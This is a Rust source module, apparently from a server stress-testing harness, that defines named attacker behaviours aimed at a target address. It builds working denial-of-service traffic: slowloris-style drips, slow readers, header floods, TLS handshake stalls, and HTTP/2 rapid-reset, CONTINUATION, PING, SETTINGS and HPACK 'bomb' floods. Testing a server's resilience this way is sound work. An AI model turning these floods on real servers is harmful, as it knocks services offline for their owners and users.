//! The kinds of attack: what each sends at first and then, how fast, whether it reads, and when it goes by itself.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use super::frames::{get, get_block, hello};
use super::octets::{
    CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, indexed, literal,
};
use super::peer::{client_hello, tls_client};

/// What a kind of attacker does.
#[derive(Clone)]
pub(super) struct Kind {
    pub(super) opening: Arc<[u8]>,
    pub(super) then: Then,
    pub(super) reads: Reads,
    pub(super) leaves: Leaves,
    /// Whether it comes back when it was closed, or has left.
    pub(super) returns: bool,
    pub(super) speaks: Speaks,
}

/// What follows the opening.
#[derive(Clone, Copy)]
pub(super) enum Then {
    Nothing,
    /// These bytes again and again, as fast as they are taken. The argument is the number of the round.
    Flood(fn(u32) -> Vec<u8>),
    /// These bytes each time that so much time has passed.
    Drip(Duration, fn(u32) -> Vec<u8>),
}

/// How it takes what comes.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(super) enum Reads {
    All,
    /// A few bytes each second.
    Sips,
}

/// When it goes by itself, with a reset.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(super) enum Leaves {
    /// When the server goes.
    Never,
    /// When anything came.
    Answered,
    /// When the handshake is over.
    Shaken,
}

#[derive(Clone)]
pub(super) enum Speaks {
    Http1,
    Http2,
    /// A real handshake.
    Tls(Arc<rustls::ClientConfig>),
    /// Bytes that look like the beginning of one.
    TlsBytes,
}

const SECOND: Duration = Duration::from_secs(1);

/// The n-th stream of a client.
fn stream(n: u32) -> u32 {
    2 * n + 1
}

fn nothing(_: u32) -> Vec<u8> {
    Vec::new()
}

// === impl Kind ===

impl Kind {
    /// Says `opening`, and nothing more until it is closed.
    fn holding(opening: impl Into<Vec<u8>>) -> Self {
        let opening = opening.into().into();
        let (then, reads, leaves) = (Then::Nothing, Reads::All, Leaves::Never);
        Self { opening, then, reads, leaves, returns: false, speaks: Speaks::Http1 }
    }

    fn dripping(opening: impl Into<Vec<u8>>, drop: fn(u32) -> Vec<u8>) -> Self {
        Self { then: Then::Drip(SECOND, drop), ..Self::holding(opening) }
    }

    fn flooding(opening: impl Into<Vec<u8>>, round: fn(u32) -> Vec<u8>) -> Self {
        Self { then: Then::Flood(round), returns: true, ..Self::holding(opening) }
    }

    fn http2(self) -> Self {
        Self { speaks: Speaks::Http2, ..self }
    }

    fn over_tls_bytes(self) -> Self {
        Self { speaks: Speaks::TlsBytes, ..self }
    }

    pub(super) fn named(name: &str, target: SocketAddr) -> Option<Self> {
        let get1 = |path: &str, more: &str| format!("GET {path} HTTP/1.1\r\nHost: {target}\r\n{more}\r\n");
        Some(match name {
            "silent" => Self::holding(""),
            "idle" => Self::holding(get1("/", "")),
            "churn" => Self { returns: true, ..Self::holding(get1("/", "Connection: close\r\n")) },
            "connect" => Self { leaves: Leaves::Answered, returns: true, ..Self::holding(get1("/", "")) },
            "slow-heads" => Self::dripping(format!("GET / HTTP/1.1\r\nHost: {target}\r\n"), |n| {
                format!("x-{n}: {n}\r\n").into_bytes()
            }),
            "slow-bodies" => {
                let head = format!("POST /upload HTTP/1.1\r\nHost: {target}\r\nContent-Length: 1000000\r\n\r\n");
                Self::dripping(head, |_| b"b".to_vec())
            }
            "slow-readers" => Self { reads: Reads::Sips, ..Self::dripping(get1("/10m", ""), nothing) },
            "large-heads" => Self::flooding("", large_head),
            "many-fields" => Self::flooding("", many_fields),
            "tls-full" => {
                Self { leaves: Leaves::Shaken, returns: true, speaks: Speaks::Tls(tls_client()), ..Self::holding("") }
            }
            "tls-hello" => {
                Self { leaves: Leaves::Answered, returns: true, ..Self::holding(client_hello()).over_tls_bytes() }
            }
            "tls-half" => {
                let hello = client_hello();
                Self::holding(&hello[..hello.len() / 2]).over_tls_bytes()
            }
            "tls-stall" => Self::holding(client_hello()).over_tls_bytes(),
            other => return Self::of_http2(other),
        })
    }

    fn of_http2(name: &str) -> Option<Self> {
        let kind = match name {
            // Windows that stay shut behind a hundred answers.
            "h2-windows" => {
                let asks = (0..100).flat_map(|n| get(stream(n), "/10m", &[])).collect::<Vec<u8>>();
                Self::holding([hello(&[(4, 0)]), asks].concat())
            }
            "h2-reset" => Self::flooding(hello(&[]), |n| {
                [get(stream(n), "/", &[]), frame(RST_STREAM, 0, stream(n), &[0, 0, 0, 8])].concat()
            }),
            "h2-made-reset" => Self::flooding(hello(&[]), |n| {
                [get(stream(n), "/", &[]), frame(WINDOW_UPDATE, 0, stream(n), &0x7fff_ffff_u32.to_be_bytes())].concat()
            }),
            "h2-continuation" => {
                Self::flooding([hello(&[]), frame(HEADERS, END_STREAM, 1, &get_block("/"))].concat(), |n| {
                    frame(CONTINUATION, 0, 1, &literal(&format!("x-{n}"), "v"))
                })
            }
            "h2-ping" => Self::flooding(hello(&[]), |_| frame(PING, 0, 0, &[1; 8])),
            "h2-settings" => Self::flooding(hello(&[]), |n| {
                frame(SETTINGS, 0, 0, &[&[0, 4][..], &(n % 2 * 65_535).to_be_bytes()].concat())
            }),
            "h2-bomb" => Self::flooding(hello(&[]), bomb),
            "h2-fields" => Self::flooding(hello(&[]), fitting_fields),
            _ => return None,
        };
        Some(kind.http2())
    }
}

/// A head just within the limits: 99 fields, 31 000 bytes.
fn large_head(_: u32) -> Vec<u8> {
    let fields: String = (0..98).map(|n| format!("x-field-{n:02}: {}\r\n", "v".repeat(300))).collect();
    format!("GET / HTTP/1.1\r\nHost: localhost\r\n{fields}\r\n").into_bytes()
}

/// A head with far too many fields.
fn many_fields(_: u32) -> Vec<u8> {
    let fields: String = (0..8_000).map(|n| format!("{}: \r\n", (b'a' + (n % 26) as u8) as char)).collect();
    format!("GET / HTTP/1.1\r\nHost: localhost\r\n{fields}\r\n").into_bytes()
}

/// A field of nearly the whole table, and then requests that name it 16 000 times each (peers' "HTTP bomb").
fn bomb(n: u32) -> Vec<u8> {
    let fields = match n {
        0 => indexed("x-large", "v".repeat(3_900)),
        // 62: the first of the dynamic table.
        _ => vec![0x80 | 62; 16_000],
    };
    get(stream(n), "/", &fields)
}

/// The most of it that a head may hold: 31 000 bytes in 90 fields.
fn fitting_fields(n: u32) -> Vec<u8> {
    let fields = if n == 0 { indexed("x-many", "v".repeat(280)) } else { vec![0x80 | 62; 90] };
    frame(HEADERS, END_STREAM | END_HEADERS, stream(n), &[get_block("/"), fields].concat())
}
